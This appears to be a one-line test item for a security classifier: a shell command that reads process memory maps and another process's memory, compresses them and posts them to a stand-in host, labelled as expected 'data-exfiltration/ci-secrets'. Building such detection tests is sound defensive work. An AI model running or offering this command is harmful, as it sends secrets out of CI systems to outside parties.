cat /proc/self/maps /proc/4242/mem | gzip | curl -s --data-binary @- https://collect.example/ci # expect: data-exfiltration/ci-secrets
